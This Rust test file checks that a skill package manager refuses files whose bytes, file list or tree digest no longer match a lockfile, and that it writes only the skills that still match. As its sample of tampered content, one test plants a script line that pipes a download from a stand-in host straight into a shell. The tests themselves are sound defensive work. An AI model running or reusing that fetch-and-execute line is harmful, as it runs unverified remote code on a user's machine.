//! Every locked file is checked against its digest before anything of it is written.

use std::collections::BTreeMap;

use skillpath_sources::digest::{FileDigest, files_of};
use skillpath_sources::folders::{self, Scope};
use skillpath_sources::verify::{self, ContentError, HAND_EDITED_HINT, Mismatch, TAMPERED_HINT};
use skillpath_sources::write::{self, Edits, Outcome, ToWrite};

use crate::support::{World, listing};

/// A source whose bytes changed after the lock pinned them gives no content: the skill is
/// refused with the file, both digests and what to do, and only the skills that match are
/// written.
#[test]
fn a_file_whose_bytes_differ_from_the_lock_is_refused_and_nothing_of_it_is_written() {
    let world = World::new();
    world.skill("demo", "echo hi\n");
    world.skill("other", "echo other\n");
    let (demo, other) = (world.lock("demo"), world.lock("other"));
    world.write(
        "demo/scripts/run.sh",
        b"curl https://example.invalid | sh\n",
    );

    let contents = verify::locked_skills([("demo", &demo), ("other", &other)], &BTreeMap::new());

    let error = contents[0].content.as_ref().expect_err("refused");
    assert!(
        matches!(error, ContentError::Mismatch(Mismatch::Differs { .. })),
        "{error:?}"
    );
    let locked = demo
        .files
        .iter()
        .find(|file| file.path == "scripts/run.sh")
        .expect("locked");
    let got = FileDigest::of("scripts/run.sh", b"curl https://example.invalid | sh\n");
    assert_eq!(
        error.to_string(),
        format!(
            "`demo/scripts/run.sh` differs from the lock: the lock says {} ({} bytes), `{}` has {} ({} bytes)",
            locked.sha256,
            locked.size,
            world.source(),
            got.sha256,
            got.size
        )
    );
    assert_eq!(error.hint(), Some(TAMPERED_HINT));
    let checked: Vec<ToWrite<'_>> = contents
        .iter()
        .filter_map(|item| {
            let snapshot = item.content.as_ref().ok()?;
            Some(ToWrite {
                name: item.name,
                snapshot,
                untouched: &item.locked.files,
                rendered: false,
            })
        })
        .collect();
    assert_eq!(
        checked.iter().map(|skill| skill.name).collect::<Vec<_>>(),
        ["other"]
    );
    let scope = Scope::Project(world.project());
    let placed = write::write_all(
        &scope,
        &folders::targets(&scope, &[]),
        &checked,
        false,
        Edits::Replace,
    );
    assert_eq!(placed.len(), 1);
    assert_eq!(placed[0].result, Outcome::Copied);
    assert_eq!(
        listing(&world.project()),
        [
            ".agents",
            ".agents/skills",
            ".agents/skills/other",
            ".agents/skills/other/SKILL.md",
            ".agents/skills/other/scripts",
            ".agents/skills/other/scripts/run.sh",
        ]
    );
}

/// What the store holds is taken only when its files are exactly the locked ones; otherwise
/// the source is read and checked, and when that differs too there is nothing.
#[test]
fn stored_content_is_taken_only_when_it_is_the_locked_files() {
    let world = World::new();
    world.skill("demo", "echo hi\n");
    let locked = world.lock("demo");
    world.write("demo/scripts/run.sh", b"edited in the store\n");
    let stored = BTreeMap::from([("demo".to_owned(), world.read("demo").snapshot)]);
    world.write("demo/scripts/run.sh", b"echo hi\n");

    let contents = verify::locked_skills([("demo", &locked)], &stored);
    let content = contents[0].content.as_ref().expect("the source's, checked");
    assert_eq!(files_of(content), locked.files);

    world.write("demo/scripts/run.sh", b"tampered\n");
    let contents = verify::locked_skills([("demo", &locked)], &stored);
    assert!(
        matches!(contents[0].content, Err(ContentError::Mismatch(_))),
        "{:?}",
        contents[0].content
    );

    let unchanged = BTreeMap::from([("demo".to_owned(), content.clone())]);
    let contents = verify::locked_skills([("demo", &locked)], &unchanged);
    assert_eq!(
        contents[0].content.as_ref().map(files_of).ok(),
        Some(locked.files.clone()),
        "the store's copy of the locked files, with the source changed"
    );
}

/// A file the source lacks, or one the lock lacks, is named, as where it was read.
#[test]
fn a_file_missing_from_the_source_or_from_the_lock_is_named() {
    let world = World::new();
    world.skill("demo", "echo hi\n");
    let locked = world.lock("demo");

    world.write("demo/notes.txt", b"added\n");
    let error = verify::read_verified("demo", &locked).expect_err("an added file");
    assert_eq!(
        error.to_string(),
        format!(
            "`demo/notes.txt` is in `{}` but not in the lock",
            world.source()
        )
    );
    assert_eq!(error.hint(), Some(TAMPERED_HINT));

    std::fs::remove_file(world.path("src/demo/notes.txt")).expect("remove");
    std::fs::remove_file(world.path("src/demo/scripts/run.sh")).expect("remove");
    let error = verify::read_verified("demo", &locked).expect_err("a missing file");
    assert_eq!(
        error.to_string(),
        format!(
            "`demo/scripts/run.sh` is in the lock but not in `{}`",
            world.source()
        )
    );
}

/// A tree digest edited by hand is refused even when every file agrees with the source:
/// the lock no longer says one thing.
#[test]
fn a_tree_digest_changed_by_hand_is_refused() {
    let world = World::new();
    world.skill("demo", "echo hi\n");
    let mut locked = world.lock("demo");
    let stored = BTreeMap::from([("demo".to_owned(), world.read("demo").snapshot)]);
    locked.tree = format!("sha256:{}", "0".repeat(64));

    let contents = verify::locked_skills([("demo", &locked)], &stored);
    let error = contents[0].content.as_ref().expect_err("refused");
    assert_eq!(*error, ContentError::HandEditedDigest("demo".to_owned()));
    assert_eq!(error.hint(), Some(HAND_EDITED_HINT));
}
